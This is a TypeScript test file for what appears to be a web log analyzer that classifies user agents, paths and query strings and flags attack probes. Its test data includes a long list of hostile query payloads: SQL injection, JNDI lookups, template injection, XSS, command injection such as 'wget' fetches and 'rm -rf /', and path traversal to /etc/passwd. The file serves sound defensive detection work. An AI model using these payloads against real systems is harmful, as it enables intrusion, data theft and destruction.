import assert from 'node:assert/strict'
import { test } from 'node:test'
import { agentOf, browsers, systems } from '../agents.ts'
import { plainText } from '../formats/w3c.ts'
import { aiCrawlers, attacks, botKinds } from '../tally.ts'
import { attackOf } from '../watch/patterns.ts'
import * as bits from './judged.ts'
import { originEnd } from './origin.ts'
import { isSuspicious } from './suspicious.ts'

const agents = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)',
  ...['sqlmap/1.7', 'curl/8.5.0', '', '-', 'Mozilla/5.0 (compatible; bingbot/2.0)'],
]

test('what an agent was found to be stands in its bits, all of it', () => {
  for (const text of agents) {
    const found = bits.judgeAgent(text)
    const agent = agentOf(text)
    const bot = botKinds[(found & bits.botBits) - 1] ?? null
    const ai = aiCrawlers[((found >> bits.aiShift) & bits.aiBits) - 1] ?? null
    assert.deepEqual([bot, ai], [agent.bot, agent.ai], text)
    assert.equal(browsers[(found >> bits.browserShift) & bits.browserBits], agent.browser)
    assert.equal(systems[(found >> bits.systemShift) & bits.systemBits], agent.system)
    assert.equal((found & bits.isScanner) !== 0, agent.isScanner, text)
  }
  assert.ok(aiCrawlers.length <= bits.aiBits && botKinds.length <= bits.botBits)
  assert.ok(browsers.length <= bits.browserBits && systems.length <= bits.systemBits)
  assert.ok(attacks.length <= bits.attackBits)
})

test('a path is a page, a part of one, an attack', () => {
  const attack = (path: string) => attacks[(bits.judgePath(path) & bits.attackBits) - 1] ?? null
  assert.equal(attack('/.env'), 'probe')
  assert.equal(attack('/om-os'), null)
  for (const path of ['/a.css', '/A.PNG', '/x/y.woff2', '/app.mjs'])
    assert.ok(bits.judgePath(path) & bits.isAsset, path)
  for (const path of ['/', '/css', '/a.html', '/a.pdf', '/a.css/b', '/feed.xml'])
    assert.equal(bits.judgePath(path) & bits.isAsset, 0, path)
  assert.ok(bits.judgePath('/robots.txt') & bits.isRobots)
})

test('a query is an attack or nothing', () => {
  const attack = (query: string) => attacks[bits.judgeQuery(query) - 1] ?? null
  assert.equal(attack('id=1%27%20UNION%20SELECT%20NULL--'), 'injection')
  assert.equal(attack('utm_source=letter&utm_campaign=a%3Ab'), null)
})

test('a text is judged once, and a long one by all of it', () => {
  let times = 0
  const judged = new bits.Judged(
    text => {
      times++
      return text.length
    },
    Int32Array.of(1, 2, 3, 4),
  )
  const of = (text: string) => judged.of(Buffer.from(text))
  assert.deepEqual([of('a'), of('a'), of('bb'), times], [1, 1, 2, 2])
  assert.deepEqual([of('x'.repeat(300)), of(`${'x'.repeat(300)}y`)], [300, 301])
})

test('of a referrer the origin is told, and nothing where it has none that says nothing more', () => {
  const origins: readonly (readonly [string, string])[] = [
    ['https://example.com/a?b', 'https://example.com'],
    ['http://example.com:8080/', 'http://example.com:8080'],
    ['https://example.com', 'https://example.com'],
    ['https://example.com?q=name', 'https://example.com'],
    ['https://example.com#name', 'https://example.com'],
    ['android-app://com.google.android.gm/', 'android-app://com.google.android.gm'],
    ...[
      'https://user:word@example.com/',
      'https://user@example.com',
      '-',
      '',
      'about:blank',
      '/relative',
    ].map((text): [string, string] => [text, '']),
    ...['https:///a', 'https://a b/', 'https://ex\\"ample/', '://x', 'mailto:a@b.example'].map(
      (text): [string, string] => [text, ''],
    ),
  ]
  for (const [referrer, origin] of origins) {
    const bytes = Buffer.from(`  ${referrer}  `)
    const end = originEnd(bytes, 2, 2 + referrer.length)
    assert.equal(bytes.toString('latin1', 2, end), origin, referrer)
  }
})

const suspicious = (query: string): boolean => isSuspicious(Buffer.from(query), 0, query.length)

test('what people and forms send is not looked at further', () => {
  const harmless = [
    '',
    'a=1',
    'q=sour+milk',
    'page=2&sort=up',
    'utm_source=news&utm_medium=mail',
    'x=%C3%A6ble',
    'v=1.2.3',
    'd=2026-11-23',
  ]
  for (const query of harmless) assert.equal(suspicious(query), false, query)
})

/** One for each pattern that looks at a query, written as scanners write them. */
const attacking = [
  ...[
    'id=1+UNION+SELECT+NULL--',
    'id=1%20union%20all%20select%201,2',
    "a='or'1'='1",
    'id=1+or+1=1',
    'id=1%20OR%201=1',
    "a=1'--",
  ],
  ...[
    'a=1)+order+by+3--',
    'a=1+order+by+10',
    'a=1;drop+table+x',
    'a=sleep(5)',
    'a=benchmark(1,2)',
    "a=waitfor%20delay%20'0'",
    'a=1%27%20or%201%3D1',
  ],
  ...[
    'a=load_file(1',
    'a=information_schema.tables',
    'a=select+version()',
    `x=\${jndi:ldap://a}`,
    'x=%24%7Bjndi:a',
    `x=\${lower:j}`,
  ],
  ...[
    'x={{7*7}}',
    'x=%{(#a)}',
    '#_memberaccess',
    'a=@java.lang.Runtime@x',
    'class.module.classLoader.x=1',
    'a=<script>',
    'a=%3Cscript%3E',
  ],
  ...[
    'a=javascript:alert(1)',
    'a="onload=x',
    'document.cookie',
    'a=<svg onload>',
    'a=1;wget http://x',
    'cmd=id',
    'exec=whoami',
    'c=ifconfig',
  ],
  ...[
    'cmd=cat+/etc/passwd',
    'a=$(id)',
    'a=/bin/sh',
    'a=cd+/tmp;x',
    'a=rm+-rf+/',
    'a=<?php',
    'a=phpinfo()',
    'function=call_user_func_array',
  ],
  ...[
    '-d+allow_url_include=1',
    'auto_prepend_file=x',
    'disable_functions=',
    'a=powershell+-enc',
    'a=cmd.exe+/c+dir',
    'f=../../etc/passwd',
  ],
  ...[
    'f=..%2f..%2fetc%2fpasswd',
    'f=%2e%2e/%2e%2e/',
    'f=/etc/passwd',
    'f=file:///etc/passwd',
    'f=php://input',
    'f=phar://x',
    'f=a%00.php',
  ],
  ...[
    'XDEBUG_SESSION_START=phpstorm',
    'rest_route=/wp/v2/users',
    '=PHPE9568F36',
    'a=%0d%0aset-cookie:x',
    'a=%2527',
    'a=%u0027',
    'a=\\x27or',
  ],
]

test('whatever the patterns of attacks find in a query is let through to them', t => {
  const found = attacking.filter(query => attackOf('/', query) !== null)
  t.diagnostic(`${found.length} of ${attacking.length} are attacks by the patterns`)
  assert.ok(found.length > 40)
  for (const query of attacking) assert.ok(suspicious(query), query)
})

test('a browser is the same in whatever way its name was written', () => {
  const sent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0'
  const iis = sent.replaceAll(' ', '+')
  const cloudFront = sent.replaceAll(' ', '%20')
  assert.notEqual(bits.judgeAgent(sent), bits.judgeAgent('Mozilla/5.0'))
  for (const written of [iis, cloudFront, cloudFront.replaceAll('%', '%25')])
    assert.equal(bits.judgeAgent(written), bits.judgeAgent(sent), written)
  assert.equal(plainText('curl/8.1+git'), 'curl/8.1 git')
  assert.equal(plainText('a+b c'), 'a+b c')
})
